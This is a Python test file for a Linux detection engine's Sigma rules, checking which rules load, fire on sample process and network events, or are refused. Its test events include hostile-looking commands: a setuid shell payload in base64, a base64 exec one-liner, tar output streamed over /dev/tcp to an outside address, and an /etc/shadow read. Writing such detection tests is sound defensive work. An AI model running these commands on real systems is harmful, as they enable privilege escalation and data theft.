"""The project's own Sigma rules: what loads, what fires, and what is refused."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from sigma_helpers import BAD, RULES, ev

from immune.events import Event
from immune.sigma import SigmaEngine, SigmaLoadError, load_rules
from immune.sigma.fields import ProcessTable


def short(title: str) -> str:
    return title.removeprefix("IMMUNE test - ")


RULESET = load_rules([RULES])
ENGINE_RULES = {short(rule.title): rule for rule in RULESET.rules}


def fired(*events: Event) -> list[list[str]]:
    """For each event in turn, the short titles of the rules it matched."""
    engine = SigmaEngine(RULESET)
    return [sorted(short(r.title) for r in engine.evaluate(e).matched) for e in events]


TMP = "program run from a temporary directory"
JAVA = "shell started by a Java process"
ENCODED = "encoded or obfuscated command lines"
CALLBACK = "connection to an unusual port outside private networks"
AUDITD = "auditd style argument and keyword checks"
SHADOW = "password hashes opened"
B64 = base64.b64encode(b"x; chmod +s /bin/sh").decode()

CASES = [
    (TMP, ev(exe="/tmp/x"), True),
    (TMP, ev(exe="/dev/shm/.a/run"), True),
    (TMP, ev(exe="/TMP/x"), True),  # Sigma strings compare without case
    (TMP, ev(exe="/usr/tmp/x"), False),
    (TMP, ev(exe="/tmp/installer-helper"), False),  # the filter
    (TMP, ev(exe=None, argv=["/tmp/x"]), False),  # no exe: Image is missing
    (ENCODED, ev(exe="/usr/bin/bash", argv=["bash", "-c", f"echo {B64}"]), True),
    (ENCODED, ev(exe="/usr/bin/bash", argv=["bash", "-c", "chmod +s x"]), False),
    (
        ENCODED,
        ev(argv=["python3", "-c", "import base64;exec(base64.b64decode('eA=='))"]),
        True,
    ),
    (ENCODED, ev(argv=["python3", "-c", "exec(open('x').read())"]), False),
    (ENCODED, ev(argv="sh -c echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d"), True),
    (ENCODED, ev(argv="sh -c echo aGVsbG8K | base64 -d"), False),  # too short
    (ENCODED, ev(exe="/usr/bin/openssl", argv="openssl enc /d -in x"), True),
    (ENCODED, ev(exe="/usr/bin/openssl", argv="openssl enc \u2013d -in x"), True),
    (ENCODED, ev(exe="/usr/bin/openssl", argv="openssl enc -e -in x"), False),
    (CALLBACK, ev("connect", addr="203.0.113.9", port=31337), True),
    (CALLBACK, ev("connect", addr="2001:db8::1", port=30000), True),
    (CALLBACK, ev("connect", addr="10.1.2.3", port=31337), False),
    (CALLBACK, ev("connect", addr="fd00::1", port=31337), False),
    (CALLBACK, ev("connect", addr="203.0.113.9", port=40000), False),
    (CALLBACK, ev("connect", addr="203.0.113.9", port=29999), False),
    (CALLBACK, ev("bind", addr="203.0.113.9", port=31337), False),  # not initiated
    (AUDITD, ev(argv=["tar", "-cf", "/dev/tcp/198.51.100.1/9"]), True),
    (AUDITD, ev(argv=["tar", "-xf", "/dev/tcp/198.51.100.1/9"]), False),
    (AUDITD, ev(argv=["gtar", "-cf", "/dev/tcp/198.51.100.1/9"]), False),
    (SHADOW, ev("open", path="/etc/shadow", exe="/usr/bin/cat"), True),
    (SHADOW, ev("open", path="/etc/shadow", exe="/usr/bin/passwd"), False),
    (SHADOW, ev("open", path="/etc/shadow-", exe="/usr/bin/cat"), False),
]


@pytest.mark.parametrize(("title", "event", "expected"), CASES)
def test_sigma_own_rule_fires_on_its_case_only(
    title: str, event: Event, expected: bool
) -> None:
    assert (title in fired(event)[0]) is expected


def test_sigma_every_own_rule_has_cases_both_ways() -> None:
    covered = {(title, expected) for title, _event, expected in CASES}
    for title in ENGINE_RULES:
        if title in (JAVA, "connect to port 4444"):
            continue  # tested with the process table and the correlations
        assert (title, True) in covered and (title, False) in covered, title


def test_sigma_parent_fields_come_from_the_process_table() -> None:
    java = ev(exe="/usr/lib/jvm/bin/java", pid=100, ppid=1)
    shell = ev(exe="/bin/sh", pid=101, ppid=100)
    assert fired(java, shell) == [[], [JAVA]]
    # Through a fork, the child inherits what its parent ran.
    fork = ev("fork", pid=102, ppid=100)
    grandchild = ev(exe="/usr/bin/bash", pid=103, ppid=102)
    assert fired(java, fork, grandchild)[2] == [JAVA]
    # Not a Java parent, or an unknown parent: no match.
    other = ev(exe="/usr/bin/python3", pid=200, ppid=1)
    assert fired(other, ev(exe="/bin/sh", pid=201, ppid=200)) == [[], []]
    assert fired(ev(exe="/bin/sh", pid=300, ppid=299)) == [[]]
    # Another agent's process 100 is another process.
    assert fired(java, ev(agent="db-1", exe="/bin/sh", pid=101, ppid=100))[1] == []


def test_sigma_process_table_forgets_exits_and_stays_bounded() -> None:
    table = ProcessTable(limit=3)
    table.update(ev(exe="/a", pid=1))
    table.update(ev("exit", pid=1))
    assert table.parent(ev(ppid=1)) is None
    for pid in range(10):
        table.update(ev(exe=f"/bin/p{pid}", pid=pid))
    assert len(table) == 3
    found = table.parent(ev(ppid=9))
    assert found is not None and found.exe == "/bin/p9"
    assert table.parent(ev(ppid=0)) is None  # the oldest went first
    with pytest.raises(ValueError, match="at least 1"):
        ProcessTable(limit=0)


def test_sigma_rule_metadata_maps_to_alert_fields() -> None:
    rule = ENGINE_RULES[JAVA]
    assert rule.id == "0b6f7a52-1c3e-4d7a-9f21-6a1d2c3b4e02"
    assert rule.severity == "critical"
    assert rule.techniques == ("T1059.004", "T1190")
    assert rule.kinds == ("exec",)
    assert ENGINE_RULES[CALLBACK].severity == "low"
    assert ENGINE_RULES[CALLBACK].kinds == ("connect", "bind")
    assert ENGINE_RULES[AUDITD].kinds == ("exec",)  # a0 exists on exec only
    assert not RULESET.refused


# -- what is refused ----------------------------------------------------------

REFUSED = load_rules([BAD])


def refusal(name: str) -> list[tuple[str | None, str | None, str]]:
    return [
        (r.rule_id, r.title, r.reason)
        for r in REFUSED.refused
        if Path(r.file).name == name
    ]


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("broken_yaml.yml", "cannot be read as Sigma rules: while parsing a flow"),
        ("windows_only.yml", "product 'windows': IMMUNE's agents report Linux"),
        ("unmapped_field.yml", "field 'Hashes' of process_creation cannot be"),
        ("lookahead.yml", "Regular expression 'curl(?=.*\\|\\s*sh)' is invalid"),
        ("unknown_modifier.yml", "Unknown modifier 'sounds_like'"),
        ("placeholder.yml", "placeholder %admin_tools% is not defined"),
        ("syslog_keywords.yml", "no category or service (system logs)"),
        ("never_matches.yml", "audit.type 'USER_LOGIN' never occurs"),
        ("duplicate_id.yml", "is already used by"),
    ],
)
def test_sigma_refused_rule_is_reported_with_its_reason(name: str, reason: str) -> None:
    (found,) = refusal(name)
    rule_id, title, why = found
    assert reason in why
    if name != "broken_yaml.yml":
        assert rule_id and rule_id.startswith("0b6f7a52-")
        assert title and title.startswith("IMMUNE test - ")


def test_sigma_refused_correlations_say_why() -> None:
    reasons = {rule_id: why for rule_id, _t, why in refusal("correlation_problems.yml")}
    assert "'no_such_rule' not found" in reasons["0b6f7a52-1c3e-4d7a-9f21-6a1d2c3b4e26"]
    assert "condition lt" in reasons["0b6f7a52-1c3e-4d7a-9f21-6a1d2c3b4e27"]


def test_sigma_nothing_in_the_bad_folder_is_silently_dropped() -> None:
    files = sorted(p.name for p in BAD.glob("*.yml"))
    reported = {Path(r.file).name for r in REFUSED.refused}
    reported |= {Path(r.file).name for r in REFUSED.rules}
    assert reported == set(files)
    assert [r.title for r in REFUSED.rules] == [
        "IMMUNE test - base rule of the correlation above"
    ]


def test_sigma_missing_rule_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(SigmaLoadError, match="does not exist"):
        load_rules([tmp_path / "nope"])


def test_sigma_rule_matching_every_event_is_refused(tmp_path: Path) -> None:
    (tmp_path / "all.yml").write_text(
        "title: everything\nid: 11111111-2222-3333-4444-555555555555\n"
        "logsource: {product: linux, service: auditd}\n"
        "detection: {sel: {type: SYSCALL}, condition: sel}\n"
    )
    (found,) = load_rules([tmp_path]).refused
    assert found.reason.startswith("would match every exec")


def test_sigma_text_that_is_not_utf8_is_still_matched() -> None:
    # Lone surrogates cannot go to RE2 as they are; they are escaped first.
    event = ev(exe="/tmp/\udcff", argv=["sh", "-c", "echo \udcff; chmod +s x"])
    assert fired(event) == [[TMP]]
    encoded = ev(argv=["sh", "-c", "echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d \udcff"])
    assert fired(encoded) == [[ENCODED]]
